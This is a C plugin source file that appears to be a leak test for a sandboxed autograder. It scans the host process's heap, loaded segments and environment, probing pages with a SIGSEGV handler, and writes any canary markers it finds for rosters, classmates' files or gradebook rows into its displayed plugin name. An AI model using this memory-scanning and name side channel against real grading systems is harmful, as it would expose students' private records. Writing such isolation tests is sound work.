/* Attack: read what the grader knew of the class out of the memory the
 * plugin's process started with: the heap (walked down from sbrk(0) while
 * readable), every loaded object's writable segments (dl_iterate_phdr) and
 * the program's arguments and environment (from program_invocation_name to
 * the end of the stack), all without a system call the jail forbids.
 * Whatever it finds among the markers below goes into the plugin's name,
 * which every report, gradebook row and feedback file shows:
 *     SCAN         the scan ran,
 *     -A           it found the assignment's title (its own, allowed),
 *     -R, -C, -B   a roster's email, a classmate's file name, a gradebook's
 *                  verdict cell (each a leak).
 * Explicit Euler, so it fails an rk4 assignment whatever it finds. */
#define _GNU_SOURCE
#include <errno.h>
#include <link.h>
#include <setjmp.h>
#include <signal.h>
#include <stepwise/integrator.h>
#include <string.h>
#include <unistd.h>

static sigjmp_buf jb;
static void on_segv(int s) { (void)s; siglongjmp(jb, 1); }

static int readable(volatile const char *p)
{
    struct sigaction sa, old;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_segv;
    sa.sa_flags = SA_NODEFER;
    sigaction(SIGSEGV, &sa, &old);
    sigaction(SIGBUS, &sa, NULL);
    int ok = 0;
    if (!sigsetjmp(jb, 1)) {
        (void)*p;
        ok = 1;
    }
    sigaction(SIGSEGV, &old, NULL);
    return ok;
}

static int step(sw_ode *ode, double t, double *y, double h, double *work)
{
    sw_ode_eval(ode, t, y, work);
    for (int i = 0; i < ode->dim; i++)
        y[i] += h * work[i];
    return 0;
}

static char name[32] = "SCAN";
static sw_plugin info = { .abi = SW_PLUGIN_ABI, .name = name, .order = 1, .evals = 1, .work_vectors = 1,
                          .step = step };

/* The markers, assembled at run time so that this file's own bytes do not
 * hold them whole. */
static char mark[4][24];
static const char tag[4][3] = { "-A", "-R", "-C", "-B" };

static void scan(const char *lo, const char *hi)
{
    for (const char *p = lo; p + 24 < hi; p++)
        if (p[0] == 'Z' && p[1] == 'Q' && !(p >= &mark[0][0] && p < &mark[4][0])) /* not its own */
            for (int k = 0; k < 4; k++)
                if (memcmp(p, mark[k], strlen(mark[k])) == 0 && !strstr(name, tag[k]))
                    strcat(name, tag[k]);
}

/* A region, page by page while readable. */
static void scan_pages(const char *lo, const char *hi)
{
    for (const char *p = (const char *)((unsigned long)lo & ~4095UL); p < hi; p += 4096)
        if (readable(p))
            scan(p < lo ? lo : p, p + 4096 < hi ? p + 4096 : hi);
}

static int each_object(struct dl_phdr_info *o, size_t size, void *ctx)
{
    (void)size, (void)ctx;
    for (int i = 0; i < o->dlpi_phnum; i++)
        if (o->dlpi_phdr[i].p_type == PT_LOAD && (o->dlpi_phdr[i].p_flags & PF_W)) {
            const char *a = (const char *)(o->dlpi_addr + o->dlpi_phdr[i].p_vaddr);
            scan_pages(a, a + o->dlpi_phdr[i].p_memsz);
        }
    return 0;
}

const sw_plugin *sw_plugin_info(void);
const sw_plugin *sw_plugin_info(void)
{
    static const char *const words[4] = { "ASSIGNMENT", "ROSTER", "CLASSMATE", "BOOKROW" };
    for (int k = 0; k < 4; k++) {
        strcpy(mark[k], "ZQ");
        strcat(mark[k], words[k]);
    }
    char *top = sbrk(0), *start = (char *)((unsigned long)top & ~4095UL);
    while (readable(start - 4096))
        start -= 4096;
    scan_pages(start, top);
    dl_iterate_phdr(each_object, NULL);
    const char *s = program_invocation_name, *end = s;
    while (readable(end + 4096))
        end += 4096;
    scan_pages(s, (const char *)((unsigned long)end | 4095UL));
    return &info;
}
